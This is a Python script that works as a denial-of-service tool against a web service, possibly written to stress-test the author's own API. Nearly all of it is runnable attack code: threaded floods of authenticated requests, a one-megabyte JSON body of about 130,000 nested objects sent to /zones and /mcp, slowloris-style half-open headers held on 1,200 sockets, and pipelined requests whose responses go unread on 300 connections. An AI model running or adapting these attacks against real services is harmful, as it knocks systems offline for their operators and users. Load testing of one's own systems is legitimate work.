"""A program that takes from a service what it can, until it is ended.

Its arguments are the name of an attack, the address of the service, a token and a target.
"""

import json
import select
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from http.client import HTTPConnection, HTTPException
from urllib.parse import urlsplit

AT_ONCE = 8
UNREAD, HALF_OPEN = 300, 1_200
ASKED = 8
"""Documents on one connection: buffers of the kernel hold the first."""
PAUSE, REPLACED = 0.01, 20
HOSTILE = (b'{"b":"\\u003a","name":[' + b'{"a":0},' * 130_000 + b"0]}")[: 1 << 20]


class Attacker:
    """Somebody who calls a service from one address."""

    def __init__(self, url: str, token: str, target: str) -> None:
        address = urlsplit(url)
        assert address.hostname
        assert address.port
        self.host, self.port = address.hostname, address.port
        self.token, self.target = token, target

    def call(self, method: str, path: str, body: bytes | None = None) -> None:
        """Make one call, whatever comes of it."""
        connection = HTTPConnection(self.host, self.port, timeout=60)
        headers = {"Authorization": f"Bearer {self.token}"}
        if body is not None:
            headers["Content-Type"] = "application/json"
        with suppress(OSError, HTTPException):
            connection.request(method, path, body=body, headers=headers)
            connection.getresponse().read()
        connection.close()

    def keep_open(self, count: int, sent: bytes) -> None:
        """Send the same on many connections, read nothing, and replace those that are closed."""
        opened, most = dict[int, socket.socket](), count
        while True:
            with suppress(OSError):
                for _ in range(min(most, count - len(opened))):
                    each = socket.socket()
                    each.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                    each.connect((self.host, self.port))
                    each.sendall(sent)
                    opened[each.fileno()] = each
            watching = select.poll()
            for number in opened:
                watching.register(number, select.POLLHUP | select.POLLERR | select.POLLRDHUP)
            for number, _ in watching.poll(50):
                opened.pop(number).close()
            most = REPLACED
            time.sleep(10 * PAUSE)


def repeatedly(call: Callable[[], None]) -> None:
    """Make a call again and again, several at once."""

    def again() -> None:
        while True:
            call()
            time.sleep(PAUSE)

    for _ in range(AT_ONCE):
        threading.Thread(target=again, daemon=True).start()
    threading.Event().wait()


def bodies(of: Attacker) -> None:
    repeatedly(lambda: of.call("POST", "/zones", HOSTILE))


def messages(of: Attacker) -> None:
    repeatedly(lambda: of.call("POST", "/mcp", HOSTILE))


def documents(of: Attacker) -> None:
    head = f"GET /openapi.json HTTP/1.1\r\nHost: {of.host}:{of.port}\r\n\r\n"
    of.keep_open(UNREAD, head.encode() * ASKED)


def half_open(of: Attacker) -> None:
    head = f"GET /zones HTTP/1.1\r\nHost: {of.host}:{of.port}\r\nX-Odd: "
    of.keep_open(HALF_OPEN, head.encode())


def scans(of: Attacker) -> None:
    repeatedly(lambda: of.call("POST", "/scans/ingest", of.target.encode()))


def searches(of: Attacker) -> None:
    repeatedly(lambda: of.call("GET", f"/search?q={of.target}"))


ATTACKS = {
    each.__name__: each for each in (bodies, messages, documents, half_open, scans, searches)
}

if __name__ == "__main__":
    name, *about = json.loads(sys.argv[1])
    ATTACKS[name](Attacker(*about))
